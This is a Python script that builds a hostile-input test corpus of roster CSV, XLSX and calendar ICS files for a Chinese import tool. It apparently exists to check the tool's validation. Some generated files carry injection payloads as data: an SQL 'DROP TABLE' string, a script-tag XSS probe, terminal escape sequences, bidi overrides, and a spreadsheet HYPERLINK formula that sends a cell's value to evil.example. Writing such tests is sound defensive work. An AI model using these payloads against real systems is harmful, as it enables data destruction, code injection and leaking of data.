"""Writes the hostile-input corpus next to this file. Run again after changing it:

    .venv/bin/python tests/hostile_inputs/make_corpus.py

Each file breaks one rule (encoding, BOM, truncation, control and escape characters, markup- or formula-like
text, impossible or out-of-range dates, end before start, a 10,000-character name). The huge files are made
by the tests themselves (tests/reliability/test_hostile.py), not kept in the repository.
"""

from __future__ import annotations

import io
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent
HEADER = "姓名,单位,职务,电话\n"
GOOD_ROW = "王小明,茶店,乡党委副书记,13800000001\n"
LONG_NAME = "张" * 10_000


def _csv(name: str, text: str, encoding: str = "utf-8") -> None:
    (HERE / name).write_bytes(text.encode(encoding))


def _xlsx(name: str, rows: list[list[object]]) -> bytes:
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    (HERE / name).write_bytes(buf.getvalue())
    return buf.getvalue()


def _ics(name: str, event: str, *, head: str = "", encoding: str = "utf-8", end: bool = True) -> None:
    text = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//hostile//test//ZH\r\nX-WR-CALNAME:外来日历\r\n"
        + event
        + ("END:VCALENDAR\r\n" if end else "")
    )
    (HERE / name).write_bytes(head.encode("latin-1") + text.encode(encoding))


def _event(
    summary: str = "外来讲座",
    start: str = "20261204T150000",
    end: str = "20261204T170000",
    uid: str = "hostile-1@example.cn",
    extra: str = "",
) -> str:
    return (
        f"BEGIN:VEVENT\r\nUID:{uid}\r\nDTSTAMP:20261101T000000Z\r\nSUMMARY:{summary}\r\n"
        f"DTSTART;TZID=Asia/Shanghai:{start}\r\nDTEND;TZID=Asia/Shanghai:{end}\r\n{extra}END:VEVENT\r\n"
    )


def main() -> None:
    # ---- roster CSV
    _csv("roster_utf16.csv", HEADER + GOOD_ROW, "utf-16-le")
    _csv("roster_latin1.csv", "name,unit,post\nJosé Müller,Façade,Señor\n", "latin-1")
    _csv("roster_double_bom.csv", "\ufeff\ufeff" + HEADER + GOOD_ROW)
    _csv("roster_truncated_quote.csv", HEADER + '王小明,"茶店,乡党委副书记')
    _csv("roster_escape_sequence.csv", HEADER + "\x1b[31m王小明\x1b[0m,茶店,乡党委副书记,13800000001\n")
    _csv("roster_terminal_title.csv", HEADER + "王\x1b]0;pwned\x07小明,茶店,乡党委副书记,\n")
    _csv("roster_nul.csv", HEADER + "王小\x00明,茶店,乡党委副书记,\n")
    _csv("roster_bidi_override.csv", HEADER + "王\u202e明小,茶店,乡党委副书记,\n")
    _csv("roster_long_name.csv", HEADER + f"{LONG_NAME},茶店,乡党委副书记,\n")
    _csv("roster_unknown_unit.csv", HEADER + "王小明,火星乡,乡党委副书记,\n")
    _csv("roster_bad_phone.csv", HEADER + "王小明,茶店,乡党委副书记,'; DROP TABLE cadre; --\n")
    _csv("roster_bad_role.csv", "姓名,单位,角色\n王小明,茶店,皇帝\n")
    _csv("roster_empty.csv", "")
    _csv("roster_header_only_wrong.csv", "foo,bar,baz\n1,2,3\n")
    _csv(
        "roster_one_bad_row_of_many.csv",
        HEADER
        + GOOD_ROW * 0
        + "".join(f"测试{i:03d},茶店,科员,138{i:08d}\n" for i in range(200))
        + "坏行,茶店,科员,not-a-phone\n",
    )
    (HERE / "roster_binary.csv").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
    # accepted, stored and shown literally
    _csv("roster_bom_ok.csv", "\ufeff" + HEADER + GOOD_ROW)
    _csv("roster_markup_ok.csv", HEADER + "[bold red]李[/bold red]<script>alert(1)</script>,茶店,科员,\n")
    _csv("roster_formula_ok.csv", HEADER + '=HYPERLINK("http://evil.example/?"&A1;"点我"),茶店,+1+1,\n')

    # ---- roster XLSX
    good = _xlsx("roster_ok_template.xlsx", [["姓名", "单位", "职务"], ["王小明", "茶店", "科员"]])
    (HERE / "roster_ok_template.xlsx").unlink()
    (HERE / "roster_truncated.xlsx").write_bytes(good[: len(good) // 2])
    (HERE / "roster_not_a_zip.xlsx").write_bytes("姓名,单位\n王小明,茶店\n".encode())
    _xlsx("roster_long_name.xlsx", [["姓名", "单位", "职务"], [LONG_NAME, "茶店", "科员"]])
    _xlsx("roster_bidi.xlsx", [["姓名", "单位", "职务"], ["王\u202e明", "茶店", "科员"]])
    _xlsx("roster_formula_cells.xlsx", [["姓名", "单位", "职务"], ['=CONCAT("王","明")', "茶店", "科员"]])
    _xlsx("roster_no_header.xlsx", [["这是一个标题"], [], ["随便", "什么"]])
    _xlsx(
        "roster_date_as_phone.xlsx",
        [["姓名", "单位", "电话"], ["王小明", "茶店", __import__("datetime").date(2026, 2, 28)]],
    )

    # ---- ICS
    _ics("ics_end_before_start.ics", _event(start="20261204T170000", end="20261204T150000"))
    _ics("ics_impossible_date.ics", _event(start="20260230T150000", end="20260230T170000"))
    _ics("ics_year_1850.ics", _event(start="18500101T150000", end="18500101T170000"))
    _ics("ics_year_2999.ics", _event(start="29991231T150000", end="29991231T170000"))
    _ics(
        "ics_allday_year_1850.ics",
        "BEGIN:VEVENT\r\nUID:h-ad@example.cn\r\nDTSTAMP:20261101T000000Z\r\nSUMMARY:古代考察\r\n"
        "DTSTART;VALUE=DATE:18500101\r\nDTEND;VALUE=DATE:18500105\r\nEND:VEVENT\r\n",
    )
    _ics("ics_truncated.ics", _event()[:60], end=False)
    _ics("ics_escape_in_summary.ics", _event(summary="讲座\x1b[2J\x1b[31m清屏"))
    _ics("ics_long_summary.ics", _event(summary=LONG_NAME))
    _ics("ics_utf16_bom_ok.ics", _event(), encoding="utf-16")  # read since issue 14 (BOM honoured)
    _ics("ics_nul.ics", _event(summary="讲\x00座"))
    _ics("ics_unknown_tz.ics", _event().replace("TZID=Asia/Shanghai", "TZID=Mars/Olympus"))
    _ics("ics_uid_control.ics", _event(uid="bad\x07uid"))
    (HERE / "ics_html_page.ics").write_bytes("<html><body>404 找不到</body></html>".encode())
    (HERE / "ics_empty.ics").write_bytes(b"")
    # accepted, stored and shown literally
    _ics("ics_bom_ok.ics", _event(uid="hostile-bom@example.cn"), head="\xef\xbb\xbf")
    _ics(
        "ics_markup_ok.ics",
        _event(summary="[bold red]红色[/bold red] <b>粗体</b> =1+1", uid="hostile-markup@example.cn"),
    )


if __name__ == "__main__":
    main()
